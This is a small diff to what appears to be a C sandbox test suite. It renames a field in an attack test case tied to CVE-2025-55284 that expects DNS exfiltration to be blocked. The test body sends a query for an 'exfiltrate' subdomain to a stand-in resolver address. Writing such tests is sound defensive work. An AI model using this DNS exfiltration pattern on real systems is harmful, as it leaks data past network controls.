@@ -31,7 +31,7 @@ static long ask(const char *server, const char *name)
 
 ATTACK(NETWORK, "attempts", .gain = "data out, past the resolver that is looked after",
        .source = "CVE-2025-55284", .event = "network.blocked", .with = "address=192.0.2.53",
-       .works = SOME_KERNELS, .without = "a network", .flags = LONELY | QUIET)
+       .works = SOME_KERNELS, .needs = "a network", .flags = LONELY | QUIET)
 {
 	return ask("192.0.2.53", "other.exfiltrate.example.com");
 }
